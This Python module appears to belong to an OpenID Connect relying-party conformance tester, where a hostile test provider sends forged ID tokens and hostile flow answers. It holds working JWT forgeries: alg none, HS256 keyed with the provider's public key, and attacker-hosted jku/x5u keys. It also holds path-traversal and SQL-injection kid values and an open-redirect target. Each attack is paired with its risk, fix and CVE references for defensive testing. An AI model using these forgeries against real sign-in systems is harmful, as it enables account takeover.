"""Forged and broken ID tokens, and hostile provider answers, beside the honest provider
(``roles.oidc``).

Each token attack is a small named mutator: it takes the honest :class:`TokenParts` the
token endpoint was about to sign and returns the compact token it sends instead. Every
forgery models an attacker who cannot use the OP's private key: it is unsigned, signed by
another key (one the attacker names in the header, hosts on their own site, or smuggles in
as an HMAC secret made of the provider's *public* key), carries a broken signature, or is a
genuine token minted for another context (issuer, audience, time, nonce) or without a claim
OIDC Core requires. Expired tokens are an hour past ``exp`` — far beyond any RP's clock
leeway (Authlib allows 120 s). JWS work is joserfc's; nothing here builds a JWT by hand.
Where joserfc refuses what an attacker does on purpose (an HMAC key that is a public key, or
empty), the attacker's HMAC below signs anyway: this is the attacker's code, not a library.

Beside them:

* :data:`QUIRKS` — genuine tokens in shapes the OpenID Foundation's RP tests require an RP
  to *accept* (no ``kid`` with one published key, a key rotated just before signing, a key
  set with an entry no library can parse);
* :data:`FLOW_ATTACKS` — hostile answers outside the ID token: ``/userinfo`` for another
  ``sub``, a discovery document naming another issuer, a third-party-initiated login whose
  ``target_link_uri`` leads off-site;
* ``WRONG_STATE``, the callback attack: the OP redirects back with a ``state`` the app never
  issued (CSRF / code injection).

Every attack names the advisories of its shape (``references``: CVE / GHSA ids and OpenID
Foundation RP test ids), which the report links.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Protocol

from joserfc import jws
from joserfc.jwk import OctKey, RSAKey
from joserfc.jws import JWSRegistry

from oin_conformance.roles.oidc.tokens import (
    JwksEdit,
    Mutator,
    TokenParts,
    public_jwk,
    rsa_key_from_pair,
    sign_jws,
)
from oin_conformance.state import generate_keypair

OTHER_ORG = "https://attacker-org.okta.com"
OTHER_CLIENT = "0oa1otherclient00000"
THIRD_CLIENT = "0oa1thirdclient00000"
#: Where a hostile third-party-initiated login wants the user sent after signing in.
HOSTILE_TARGET = "https://evil.example/after-sign-in"
#: ``kid`` values that reach a file or an SQL query in RPs that build one from the header.
TRAVERSAL_KID = "../" * 12 + "dev/null"
SQL_KID = "x' UNION SELECT 'k' --"


class Site(Protocol):
    """Where the attacker publishes documents (``roles.oidc.AttackerSite``)."""

    def publish(self, name: str, body: bytes, content_type: str) -> str: ...


#: A forgery that also publishes something on the attacker's site (``jku``, ``x5u``).
HostedMutator = Callable[[TokenParts, Site], str]


@dataclass(frozen=True)
class TokenAttack:
    """A named forgery: what it does, the risk if accepted, the fix, and the advisories of
    its shape. ``mutate`` forges from the honest parts; a ``hosted`` forgery also publishes
    on the attacker's site, and :meth:`mutator` binds it to one."""

    name: str
    title: str
    risk: str
    fix: str
    mutate: Mutator | None = None
    references: tuple[str, ...] = ()
    hosted: HostedMutator | None = None

    def __post_init__(self) -> None:
        if (self.mutate is None) == (self.hosted is None):
            raise ValueError(f"{self.name}: give exactly one of mutate and hosted")

    @property
    def needs_site(self) -> bool:
        return self.hosted is not None

    def mutator(self, site: Site | None = None) -> Mutator:
        """The mutator to arm the provider with (a hosted forgery publishes on ``site``)."""
        hosted = self.hosted
        if hosted is None:
            assert self.mutate is not None
            return self.mutate
        if site is None:
            raise ValueError(f"{self.name} publishes on the attacker's site: give one")

        def mutate(parts: TokenParts) -> str:
            return hosted(parts, site)

        mutate.__name__ = self.name
        return mutate


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _without(claims: dict[str, Any], name: str) -> dict[str, Any]:
    return {k: v for k, v in claims.items() if k != name}


# --- the attacker's HMAC and keys -----------------------------------------------------------


class _AttackerHMAC:
    """HS256 over any bytes at all: the attacker's own signer. joserfc (rightly) refuses an
    HMAC key that parses as a public key or certificate, or that is empty; the libraries in
    the advisories below did not, and that is what these forgeries test."""

    name = "HS256"
    description = "HMAC using SHA-256, keyed with whatever bytes the attacker chose"
    recommended = False
    key_type = "oct"
    algorithm_type = "JWS"
    algorithm_location = "sig"
    security_warning = None

    def check_key(self, key: Any) -> None:
        if not isinstance(key, OctKey):
            raise ValueError("the attacker's HMAC signs with an oct key")

    def sign(self, msg: bytes, key: OctKey) -> bytes:
        return hmac.new(key.raw_value, msg, hashlib.sha256).digest()

    def verify(self, msg: bytes, sig: bytes, key: OctKey) -> bool:
        return hmac.compare_digest(self.sign(msg, key), sig)


class _AttackerRegistry(JWSRegistry):
    algorithms = {"HS256": _AttackerHMAC()}  # type: ignore[dict-item]  # duck-typed model


def hmac_token(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    """A compact JWS of ``claims`` with exactly ``header`` (``alg`` HS256), keyed with
    ``secret`` as it is — a public key's PEM, its DER, an empty string."""
    key = OctKey(secret, secret)  # built directly: import_key would refuse such a secret
    payload = json.dumps(claims, separators=(",", ":"))
    return jws.serialize_compact(header, payload, key, registry=_AttackerRegistry())


def public_key_pem(key: RSAKey) -> bytes:
    """The provider key as a SubjectPublicKeyInfo PEM (``-----BEGIN PUBLIC KEY-----``)."""
    return key.as_pem(private=False)


def public_key_der(key: RSAKey) -> bytes:
    """The provider key as SubjectPublicKeyInfo DER."""
    return key.as_der(private=False)


def jwk_json(key: RSAKey) -> bytes:
    """The provider key's JWK exactly as ``/keys`` publishes it, as JSON (Python's
    ``json.dumps`` of the published entry)."""
    return json.dumps(public_jwk(key)).encode()


def _attacker() -> tuple[RSAKey, str, str]:
    """A fresh attacker key: the joserfc key (kid = its thumbprint), its self-signed
    certificate as PEM, and as one-line base64 DER (an ``x5c`` entry)."""
    pair = generate_keypair("oin-conformance attacker")
    return rsa_key_from_pair(pair), pair.cert_pem, pair.cert_b64


# --- the forgeries --------------------------------------------------------------------------


def bad_signature(parts: TokenParts) -> str:
    """The honest token with its signature bytes corrupted (claims untouched, so only a
    signature check can tell)."""
    header, payload, signature = parts.sign().split(".")
    sig = bytearray(_unb64(signature))
    sig[len(sig) // 2] ^= 0x5A
    return f"{header}.{payload}.{_b64(bytes(sig))}"


def unknown_kid(parts: TokenParts) -> str:
    """Signed with a fresh key whose ``kid`` is not in the OP's JWKS (even after refetch)."""
    stranger = RSAKey.generate_key(2048, auto_kid=True)
    return parts.sign(header={"kid": stranger.kid, "alg": "RS256"}, key=stranger)


def alg_none(parts: TokenParts) -> str:
    """Unsigned (``alg: none``, empty signature); ``at_hash`` dropped as it needs an alg."""
    return sign_jws({"alg": "none"}, _without(parts.claims, "at_hash"), None)


def wrong_issuer(parts: TokenParts) -> str:
    """Validly signed, but ``iss`` names another Okta org."""
    return parts.sign(claims=dict(parts.claims, iss=OTHER_ORG))


def wrong_audience(parts: TokenParts) -> str:
    """Validly signed, but ``aud`` is another client's id."""
    return parts.sign(claims=dict(parts.claims, aud=OTHER_CLIENT))


def expired(parts: TokenParts) -> str:
    """Validly signed, but issued two hours ago and expired an hour ago."""
    now = int(time.time())
    claims = dict(parts.claims, iat=now - 7200, exp=now - 3600, auth_time=now - 7200)
    return parts.sign(claims=claims)


def nonce_mismatch(parts: TokenParts) -> str:
    """Validly signed, but its ``nonce`` is not the one the app sent (a replayed token)."""
    return parts.sign(claims=dict(parts.claims, nonce="n-" + secrets.token_urlsafe(16)))


def _hs256_keyed_with(secret: Callable[[TokenParts], bytes]) -> Mutator:
    """``alg: HS256`` with the provider's kid, keyed with ``secret(parts)``: bytes every
    attacker can compute from what the provider publishes."""

    def mutate(parts: TokenParts) -> str:
        return hmac_token({"kid": parts.key.kid, "alg": "HS256"}, parts.claims, secret(parts))

    return mutate


def _certificate(parts: TokenParts) -> bytes:
    if not parts.certificate_pem:
        raise ValueError("the signing key has no certificate in the state folder")
    return parts.certificate_pem.encode()


hs256_public_key_pem = _hs256_keyed_with(lambda parts: public_key_pem(parts.key))
hs256_certificate_pem = _hs256_keyed_with(_certificate)
hs256_jwk_json = _hs256_keyed_with(lambda parts: jwk_json(parts.key))
hs256_public_key_der = _hs256_keyed_with(lambda parts: public_key_der(parts.key))


def jku_attacker_jwks(parts: TokenParts, site: Site) -> str:
    """Signed by the attacker's key, whose JWKS the attacker hosts; ``jku`` points at it."""
    key, _, _ = _attacker()
    url = site.publish(
        "jwks.json", json.dumps({"keys": [public_jwk(key)]}).encode(), "application/json"
    )
    return parts.sign(header={"kid": key.kid, "alg": "RS256", "jku": url}, key=key)


def x5u_attacker_cert(parts: TokenParts, site: Site) -> str:
    """Signed by the attacker's key, whose self-signed certificate the attacker hosts;
    ``x5u`` points at it (RFC 7515 §4.1.5: PEM)."""
    key, cert_pem, _ = _attacker()
    url = site.publish("cert.pem", cert_pem.encode(), "application/pem-certificate-chain")
    return parts.sign(header={"kid": key.kid, "alg": "RS256", "x5u": url}, key=key)


def jwk_embedded(parts: TokenParts) -> str:
    """Signed by the attacker's key, carried in the header as ``jwk``."""
    key, _, _ = _attacker()
    header = {"kid": key.kid, "alg": "RS256", "jwk": public_jwk(key)}
    return parts.sign(header=header, key=key)


def x5c_embedded(parts: TokenParts) -> str:
    """Signed by the attacker's key, whose self-signed certificate is carried in ``x5c``."""
    key, _, cert_b64 = _attacker()
    return parts.sign(header={"kid": key.kid, "alg": "RS256", "x5c": [cert_b64]}, key=key)


def kid_path_traversal(parts: TokenParts) -> str:
    """``alg: HS256`` keyed with nothing (empty), ``kid`` a path to ``/dev/null``: what an
    RP that reads key files named by the kid then verifies with."""
    return hmac_token({"kid": TRAVERSAL_KID, "alg": "HS256"}, parts.claims, b"")


def kid_sql_injection(parts: TokenParts) -> str:
    """``alg: HS256`` keyed with ``k``, ``kid`` an SQL UNION that makes a key lookup built
    by string concatenation return ``k``."""
    return hmac_token({"kid": SQL_KID, "alg": "HS256"}, parts.claims, b"k")


def kid_absent_several_keys(parts: TokenParts) -> str:
    """No ``kid`` while the provider publishes several keys; signed by a stranger's key."""
    stranger = RSAKey.generate_key(2048)
    return parts.sign(header={"alg": "RS256"}, key=stranger)


def missing_iat(parts: TokenParts) -> str:
    """Validly signed, without ``iat`` (OIDC Core §2: REQUIRED)."""
    return parts.sign(claims=_without(parts.claims, "iat"))


def missing_sub(parts: TokenParts) -> str:
    """Validly signed, without ``sub`` (OIDC Core §2: REQUIRED)."""
    return parts.sign(claims=_without(parts.claims, "sub"))


def missing_aud(parts: TokenParts) -> str:
    """Validly signed, without ``aud`` (OIDC Core §2: REQUIRED)."""
    return parts.sign(claims=_without(parts.claims, "aud"))


def aud_array_without_client(parts: TokenParts) -> str:
    """Validly signed, ``aud`` an array of two other clients (not this one)."""
    return parts.sign(claims=dict(parts.claims, aud=[OTHER_CLIENT, THIRD_CLIENT]))


def issuer_trailing_slash(parts: TokenParts) -> str:
    """Validly signed, ``iss`` the org URL with a trailing slash (not the same string)."""
    return parts.sign(claims=dict(parts.claims, iss=parts.issuer + "/"))


HMAC_CONFUSION = (
    "CVE-2024-37568",
    "GHSA-5357-c2jx-v7qh",
    "CVE-2024-33663",
    "GHSA-6c5p-j8vq-pqhj",
    "CVE-2022-29217",
    "GHSA-ffqj-6fqr-9h24",
    "rp-id_token-bad-sig-hs256",
)
HMAC_FIX = (
    "Verify ID tokens with RS256 only (Okta's only ID-token algorithm): pass the allowed "
    "algorithms to the JWT library explicitly, never let the token's alg header choose, and "
    "give the library a key object, not the key's text or bytes."
)
HMAC_RISK = (
    "anyone can sign tokens: the provider's public key is public, so an HMAC keyed with it "
    "is a signature every attacker can compute"
)
FOREIGN_KEY_FIX = (
    "Take verification keys only from the jwks_uri of the issuer you configured (selected "
    "by kid); ignore the jku, x5u, jwk and x5c headers of an ID token."
)
FOREIGN_KEY_RISK = "anyone can sign tokens with their own key and have the app trust it"
KID_FIX = (
    "Use the kid only to look a key up among the issuer's published keys (a dictionary "
    "lookup); never build a file path or a query from it, and accept only RS256."
)


def _hmac_attack(name: str, what: str, mutate: Mutator) -> TokenAttack:
    return TokenAttack(
        name,
        f"ID token signed with HS256, keyed with the provider's public key as {what}",
        HMAC_RISK,
        HMAC_FIX,
        mutate,
        HMAC_CONFUSION,
    )


ATTACKS: dict[str, TokenAttack] = {
    a.name: a
    for a in (
        TokenAttack(
            "bad_signature",
            "ID token whose signature does not verify",
            "anyone can edit a token (e.g. change sub or email) and sign in as another user",
            "Verify the ID token's RS256 signature with the key from the issuer's jwks_uri "
            "(select it by kid) and refuse the sign-in when it does not verify.",
            bad_signature,
            ("rp-id_token-bad-sig-rs256",),
        ),
        TokenAttack(
            "unknown_kid",
            "ID token signed by a key the issuer does not publish",
            "an attacker's own key is trusted, so anyone can mint tokens",
            "Look the kid up in the issuer's JWKS (refetch once on a miss, as Okta rotates "
            "keys) and refuse the token when no published key has that kid.",
            unknown_kid,
        ),
        TokenAttack(
            "alg_none",
            'Unsigned ID token (alg "none")',
            "tokens without any signature are accepted; only TLS to the token endpoint protects "
            "the sign-in",
            'Accept only RS256 (Okta\'s only ID-token algorithm); refuse "none".',
            alg_none,
            ("rp-id_token-sig-none",),
        ),
        TokenAttack(
            "wrong_issuer",
            "ID token issued by another Okta org",
            "a token from any other org (another customer, or the attacker's own Okta trial) "
            "signs users in",
            "Compare iss exactly with the issuer configured for this tenant (the org URL).",
            wrong_issuer,
            ("rp-id_token-issuer-mismatch",),
        ),
        TokenAttack(
            "wrong_audience",
            "ID token issued to another client",
            "a token obtained by any other app in the org signs users in to this app",
            "Refuse ID tokens whose aud is not your client id.",
            wrong_audience,
            ("rp-id_token-aud",),
        ),
        TokenAttack(
            "expired",
            "ID token that expired an hour ago",
            "stolen or logged tokens can be replayed forever",
            "Refuse ID tokens whose exp has passed (allow at most a few minutes of clock skew).",
            expired,
        ),
        TokenAttack(
            "nonce_mismatch",
            "ID token whose nonce is not the one the app sent",
            "a token captured from another sign-in can be injected (replay / code injection)",
            "Store the nonce with the login request and refuse ID tokens whose nonce differs.",
            nonce_mismatch,
            ("rp-nonce-invalid",),
        ),
        _hmac_attack("hs256_public_key_pem", "PEM (BEGIN PUBLIC KEY)", hs256_public_key_pem),
        _hmac_attack("hs256_certificate_pem", "its certificate's PEM", hs256_certificate_pem),
        _hmac_attack("hs256_jwk_json", "its published JWK (JSON)", hs256_jwk_json),
        _hmac_attack("hs256_public_key_der", "DER", hs256_public_key_der),
        TokenAttack(
            "jku_attacker_jwks",
            "ID token whose jku header points at the attacker's key set",
            FOREIGN_KEY_RISK,
            FOREIGN_KEY_FIX,
            hosted=jku_attacker_jwks,
        ),
        TokenAttack(
            "x5u_attacker_cert",
            "ID token whose x5u header points at the attacker's certificate",
            FOREIGN_KEY_RISK,
            FOREIGN_KEY_FIX,
            hosted=x5u_attacker_cert,
        ),
        TokenAttack(
            "jwk_embedded",
            "ID token carrying the attacker's key in its jwk header",
            FOREIGN_KEY_RISK,
            FOREIGN_KEY_FIX,
            jwk_embedded,
            ("CVE-2018-0114",),
        ),
        TokenAttack(
            "x5c_embedded",
            "ID token carrying the attacker's certificate in its x5c header",
            FOREIGN_KEY_RISK,
            FOREIGN_KEY_FIX,
            x5c_embedded,
        ),
        TokenAttack(
            "kid_path_traversal",
            "ID token whose kid is a path to /dev/null, signed with HS256 and an empty key",
            "anyone can sign tokens: the key the app reads from that path is empty",
            KID_FIX,
            kid_path_traversal,
            ("rp-id_token-bad-sig-hs256",),
        ),
        TokenAttack(
            "kid_sql_injection",
            "ID token whose kid is an SQL UNION returning the key 'k', signed with it",
            "anyone can sign tokens, and the kid reaches the app's database",
            KID_FIX,
            kid_sql_injection,
            ("rp-id_token-bad-sig-hs256",),
        ),
        TokenAttack(
            "kid_absent_several_keys",
            "ID token without kid, signed by a key the issuer does not publish",
            "an app that cannot pick a key and then skips the signature check lets anyone "
            "sign tokens",
            "When the token names no kid, try only the issuer's published keys (or refuse it: "
            "with several published keys OIDC Core §10.1 requires a kid); never skip the "
            "signature check.",
            kid_absent_several_keys,
            ("rp-id_token-kid-absent-multiple-jwks",),
        ),
        TokenAttack(
            "missing_iat",
            "ID token without iat",
            "the app accepts ID tokens that do not say when they were issued",
            "Require iat (OIDC Core §2) — JWT libraries do when told the required claims.",
            missing_iat,
            ("rp-id_token-iat",),
        ),
        TokenAttack(
            "missing_sub",
            "ID token without sub",
            "the app signs someone in without knowing who: the account is then chosen by "
            "other, weaker claims",
            "Require sub (OIDC Core §2) and key accounts on (iss, sub).",
            missing_sub,
            ("rp-id_token-sub",),
        ),
        TokenAttack(
            "missing_aud",
            "ID token without aud",
            "the app accepts ID tokens that name no client, as if issued to it",
            "Require aud and refuse tokens whose aud does not contain your client id.",
            missing_aud,
            ("rp-id_token-aud",),
        ),
        TokenAttack(
            "aud_array_without_client",
            "ID token whose aud is an array of other clients",
            "a token issued to other clients signs users in to this app",
            "Accept aud as a string or an array, and refuse the token unless it contains your "
            "client id (and, with several audiences, azp is your client id).",
            aud_array_without_client,
            ("rp-id_token-aud",),
        ),
        TokenAttack(
            "issuer_trailing_slash",
            "ID token whose iss is the org URL with a trailing slash",
            "the issuer is compared loosely, so values that are not the configured issuer pass",
            "Compare iss with the configured issuer as an exact string (OIDC Core §3.1.3.7).",
            issuer_trailing_slash,
            ("rp-id_token-issuer-mismatch",),
        ),
    )
}


# --- genuine tokens in shapes an RP must accept (OpenID Foundation RP parity) ----------------


@dataclass(frozen=True)
class Quirk:
    """A genuine token the provider may send in an unusual but legal shape: a correct RP
    signs the user in. ``mutate`` shapes the token (signed by the provider's key), the key
    set may be edited (``jwks_edit``) and the key rotated just before signing; with
    ``needs_refetch`` the app can accept only after fetching the keys again."""

    name: str
    title: str
    why: str
    fix: str
    mutate: Mutator
    references: tuple[str, ...] = ()
    jwks_edit: JwksEdit | None = None
    rotate_before_signing: bool = False
    needs_refetch: bool = False


def genuine(parts: TokenParts) -> str:
    """The honest token, unchanged (signed by whatever key is current)."""
    return parts.sign()


def without_kid(parts: TokenParts) -> str:
    """The honest token signed by the provider's key, with no ``kid`` in the header."""
    return parts.sign(header={"alg": "RS256"})


def only_the_signing_key(entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The key set reduced to the signing key."""
    return entries[:1]


def unparseable_key() -> dict[str, Any]:
    """An RS256 signing key entry without its modulus: no library can make a key of it
    (RFC 7517 §5: implementations SHOULD ignore JWKs "missing required members")."""
    return {
        "kty": "RSA",
        "alg": "RS256",
        "kid": "broken-" + secrets.token_urlsafe(8),
        "use": "sig",
        "e": "AQAB",
    }


def with_an_unparseable_key(entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The key set with an unparseable entry first."""
    return [unparseable_key(), *entries]


QUIRKS: dict[str, Quirk] = {
    q.name: q
    for q in (
        Quirk(
            "key_rotation",
            "ID token signed by a key Okta rotated in just before signing",
            "Okta rotates its signing keys about every 90 days, without notice; the first "
            "token signed by the new key names a kid the app has never seen",
            "Cache Okta's keys by kid, and on a kid you do not know fetch jwks_uri again "
            "(once) before refusing. An app that pins a key or never refetches locks every "
            "user out the day Okta rotates.",
            genuine,
            ("rp-key-rotation-op-sign-key",),
            rotate_before_signing=True,
            needs_refetch=True,
        ),
        Quirk(
            "unparseable_jwks_key",
            "ID token signed by a new key, published beside an entry no library can parse",
            "RFC 7517 §5 says to ignore JWKs an implementation cannot use; a provider may "
            "publish keys of a kind or shape an app's library does not know",
            "Import the JWKS key by key and skip (log) entries your library cannot parse, "
            "instead of refusing the whole set.",
            genuine,
            jwks_edit=with_an_unparseable_key,
            rotate_before_signing=True,
            needs_refetch=True,
        ),
        Quirk(
            "kid_absent_single_key",
            "ID token without kid while the issuer publishes one key",
            "OIDC Core §10.1 requires a kid only when several keys are published; with one "
            "key the token is legal, and the OpenID Foundation's RP test requires accepting it",
            "When the token names no kid and the issuer publishes one key, verify with that "
            "key (fetch jwks_uri again if your cached set has several).",
            without_kid,
            ("rp-id_token-kid-absent-single-jwks",),
            jwks_edit=only_the_signing_key,
        ),
    )
}


# --- hostile answers outside the ID token --------------------------------------------------


@dataclass(frozen=True)
class FlowAttack:
    """A hostile provider answer or login request outside the ID token."""

    name: str
    title: str
    risk: str
    fix: str
    references: tuple[str, ...] = ()


USERINFO_SUB_MISMATCH = FlowAttack(
    "userinfo_sub_mismatch",
    "/userinfo answers for another user (its sub differs from the ID token's)",
    "the profile of whoever the access token belongs to decides the account, not the "
    "verified ID token",
    "Compare the sub of the /userinfo answer with the ID token's sub and refuse the sign-in "
    "(or ignore the userinfo claims) when they differ (OIDC Core §5.3.2).",
    ("rp-userinfo-bad-sub-claim",),
)
DISCOVERY_ISSUER_MISMATCH = FlowAttack(
    "discovery_issuer_mismatch",
    "Discovery document naming another issuer than the one configured",
    "whoever serves the discovery document chooses which issuer's tokens the app accepts",
    "After fetching {issuer}/.well-known/openid-configuration, refuse to use it unless its "
    "issuer is exactly the configured issuer (OpenID Connect Discovery §4.3), and validate "
    "ID tokens against the configured issuer.",
    ("rp-discovery-issuer-not-matching-config",),
)
THIRD_PARTY_LOGIN_OPEN_REDIRECT = FlowAttack(
    "third_party_login_open_redirect",
    "Third-party-initiated login whose target_link_uri leads off-site",
    "the app's sign-in link becomes an open redirector: a phishing link on the app's own "
    "domain that lands the user on the attacker's page",
    "Use target_link_uri only when it is a path on your own site (or an allow-list); "
    "otherwise go to your default page (OIDC Core §4: the RP MUST verify it).",
    ("rp-3rd_party-init-login",),
)
FLOW_ATTACKS: dict[str, FlowAttack] = {
    a.name: a
    for a in (USERINFO_SUB_MISMATCH, DISCOVERY_ISSUER_MISMATCH, THIRD_PARTY_LOGIN_OPEN_REDIRECT)
}


def claims_for_issuer(issuer: str) -> Mutator:
    """Sign the honest claims with ``iss`` = ``issuer`` (the discovery mismatch's token)."""

    def mutate(parts: TokenParts) -> str:
        return parts.sign(claims=dict(parts.claims, iss=issuer))

    mutate.__name__ = DISCOVERY_ISSUER_MISMATCH.name
    return mutate


def wrong_state() -> str:
    """A ``state`` value the app never issued, for the authorize redirect."""
    return "forged-" + secrets.token_urlsafe(16).replace("-", "x").replace("_", "y")


WRONG_STATE = TokenAttack(
    "wrong_state",
    "Callback whose state the app never issued",
    "login CSRF: an attacker can push their own authorization code into a victim's browser "
    "and sign the victim in to the attacker's account",
    "Bind state to the user's browser session when starting the sign-in and refuse callbacks "
    "whose state does not match it.",
    lambda parts: parts.sign(),
)

__all__ = [
    "ATTACKS",
    "DISCOVERY_ISSUER_MISMATCH",
    "FLOW_ATTACKS",
    "HOSTILE_TARGET",
    "OTHER_CLIENT",
    "OTHER_ORG",
    "QUIRKS",
    "SQL_KID",
    "THIRD_PARTY_LOGIN_OPEN_REDIRECT",
    "TRAVERSAL_KID",
    "USERINFO_SUB_MISMATCH",
    "WRONG_STATE",
    "FlowAttack",
    "Quirk",
    "Site",
    "TokenAttack",
    "claims_for_issuer",
    "hmac_token",
    "jwk_json",
    "public_key_der",
    "public_key_pem",
    "wrong_state",
]
